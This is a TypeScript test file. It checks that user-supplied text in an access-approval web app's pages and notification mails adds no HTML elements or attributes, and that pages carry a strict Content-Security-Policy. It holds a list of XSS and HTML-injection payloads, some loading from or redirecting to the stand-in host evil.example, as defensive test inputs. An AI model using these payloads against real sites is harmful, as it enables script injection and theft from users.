import { describe, expect, it } from 'vitest';
import { approvalAsked } from '../../../lambdas/application/mail-out/notices/approval-asked.ts';
import { emergencyUsed } from '../../../lambdas/application/mail-out/notices/emergency-used.ts';
import { outcome } from '../../../lambdas/application/mail-out/notices/outcome.ts';
import { sampleRequest } from '../../../local/mail/gallery/sample-notices.ts';
import { vaultPolicy } from '../../support/fakes/vault-policy.ts';
import { submitted } from '../../support/fakes/world.ts';
import { aPageWorld } from './page-world.ts';

/** What opens an element, an attribute, a script or an entity where a text is not escaped for its place. */
const payloads = [
  '<script>alert(1)</script>',
  '</dd></dl><script src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<style>@import "//evil.example"</style>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<form action=//evil.example><input name=csrf>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '{{constructor.constructor("alert(1)")()}}',
  '<<script>script>alert(1)<</script>/script>',
];

/** Every element with the names of its attributes, as a reader of HTML sees them. */
const elements = (html: string): readonly string[] =>
  [...html.matchAll(/<\/?([a-z!][^\s>/]*)((?:"[^"]*"|'[^']*'|[^>"'])*)>/gi)].map(([, name, attributes = '']) =>
    [name, ...[...attributes.matchAll(/([^\s=/"']+)\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]*)/g)].map(([, each]) => each)].join(
      ' ',
    ),
  );

/** The page of a request in which all that people and administrators wrote is this text. */
const pageWith = async (text: string) => {
  const users = { ana: { name: text }, bruno: { name: text } };
  const world = aPageWorld(vaultPolicy({ users, group: { name: text } }));
  const id = await submitted(world, { justification: text, reason: text, ticket: text });
  const bruno = world.browser();
  await bruno.signIn(id, 'bruno');
  await bruno.decide(id, { decision: 'approve', comment: text });
  const dora = world.browser();
  await dora.signIn(id, 'sub-dora');
  const refused = await dora.decide(id, { decision: 'approve', comment: text, end: '2026-11-31T15:00' });
  return [await bruno.look(id), await dora.look(id), refused];
};

const noticesWith = (text: string): readonly string[] => {
  const request = { ...sampleRequest('en'), justification: text, requester: text, applied: { because: text } };
  return [
    approvalAsked({ ...request, reason: text, ticket: text, inPlaceOf: text, replyOffered: true }),
    outcome({ ...request, outcome: 'rejected', comment: text }),
    emergencyUsed({ ...request, emergencyReason: text, reviewDueAt: 0 }),
  ].map(({ html }) => html);
};

describe('I-10: what people wrote, in every field that is shown', () => {
  it.each(payloads)('%s adds no element and no attribute to a page', async (payload) => {
    const plain = await pageWith('plain');
    const pages = await pageWith(payload);

    expect(pages.map(({ body }) => elements(body))).toEqual(plain.map(({ body }) => elements(body)));
    expect(pages.map(({ status }) => status)).toEqual([200, 200, 422]);
    expect(plain.every(({ body }) => body.includes('plain'))).toBe(true);
    for (const { headers } of pages) expect(headers['content-security-policy']).toMatch(/^default-src 'none'/);
  });

  it.each(payloads)('%s adds no element and no attribute to a mail', (payload) => {
    expect(noticesWith(payload).map(elements)).toEqual(noticesWith('plain').map(elements));
  });

  it('would be seen: this reader of elements finds what a payload adds', () => {
    expect(elements(`<dl><dd>${payloads[2]}</dd></dl>`)).toEqual(['dl', 'dd', 'img src onerror', 'dd', 'dl']);
    expect(elements(`<input value="${payloads[6]}">`)).toEqual(['input value onmouseover']);
  });
});
